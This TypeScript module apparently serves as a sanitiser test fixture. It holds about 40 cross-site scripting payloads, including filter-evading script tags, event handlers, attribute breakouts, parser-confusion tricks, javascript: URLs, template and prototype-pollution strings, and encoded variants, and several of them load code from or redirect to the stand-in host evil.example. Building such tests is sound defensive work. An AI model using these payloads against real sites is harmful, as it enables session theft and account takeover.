/**
 * One of each class of text that has become code in some page: each calls `canary` where it runs, or
 * asks for something at evil.example.
 */
export const payloads: readonly string[] = [
  // Script elements, plain and torn apart against filters.
  '<script>canary(1)</script>',
  '</textarea></title></style><script>canary(2)</script>',
  '<scr<script>ipt>canary(3)</scr</script>ipt>',
  '<ScRiPt\n>canary(4)</sCrIpT >',
  '<script src=//evil.example/x.js></script>',
  '<script type=module>import("https://evil.example/x.js")</script>',
  '</script><script>canary(5)</script>',
  // Handlers that need nobody's hand.
  '<img src=x onerror=canary(6)>',
  '<IMG """><SCRIPT>canary(7)</SCRIPT>">',
  '<img src=x:x onerror\n=canary(8)//',
  '<body onload=canary(9)>',
  '<input autofocus onfocus=canary(10)>',
  '<details open ontoggle=canary(11)>',
  '<video><source onerror=canary(12)></video>',
  '<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=canary(13)></b>',
  '<marquee onstart=canary(14)>',
  // Out of an attribute.
  '" autofocus onfocus=canary(15) x="',
  "' onmouseover=canary(16) '",
  '"><svg onload=canary(17)>',
  '` onclick=canary(18) `',
  // Drawings, formulas and what a parser changes its mind about.
  '<svg/onload=canary(19)>',
  '<svg><script>canary&#40;20&#41;</script></svg>',
  '<svg><animate onbegin=canary(21) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=canary(22)>#x"></use></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=canary(23)>',
  '<noscript><p title="</noscript><img src=x onerror=canary(24)>">',
  '<template><img src=x onerror=canary(25)></template>',
  // Addresses that are code, or lead away.
  'javascript:canary(26)',
  'JaVa\tScRiPt:canary(27)//https://example.com',
  '<a href="javascript:canary(28)">read more</a> https://example.com/"onclick="canary(28)',
  'data:text/html,<script>canary(29)</script>',
  '[read](javascript:canary(30)) ![x](https://evil.example/x.png)',
  '<iframe srcdoc="<script>parent.canary(31)</script>"></iframe>',
  '<object data=javascript:canary(32)><embed src=https://evil.example/x.swf>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<base href=https://evil.example/><link rel=stylesheet href=https://evil.example/x.css>',
  '<form action=https://evil.example/><button formaction=javascript:canary(33)>Save</button>',
  // Templates and names that programs take for their own.
  '{{constructor.constructor("canary(34)")()}}#{canary(34)}<%= canary(34) %>$' + '{canary(34)}',
  '{"__proto__":{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=canary(35)>"}}}',
  '__proto__ constructor <form id=canary><input name=attributes>',
  // Hidden behind entities, encodings and letters that are not seen.
  '&lt;img src=x onerror=canary(36)&gt; &#60;script&#62;canary(36)&#60;/script&#62;',
  '%3Cscript%3Ecanary(37)%3C/script%3E \\u003cscript\\u003ecanary(37)\\u003c/script\\u003e',
  '<img src=x o\u200bnerror=canary(38)>\u202e<script>canary(38)</script>',
  '﹤script﹥canary(39)﹤/script﹥ ＜img src=x onerror=canary(39)＞',
];

/** As many payloads to a text as it may hold. */
export function packed(limit: number): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    const joined = `${texts.at(-1) ?? ''} ${payload}`.trim();
    if (texts.length > 0 && joined.length <= limit) texts[texts.length - 1] = joined;
    else texts.push(payload);
  }
  return texts;
}
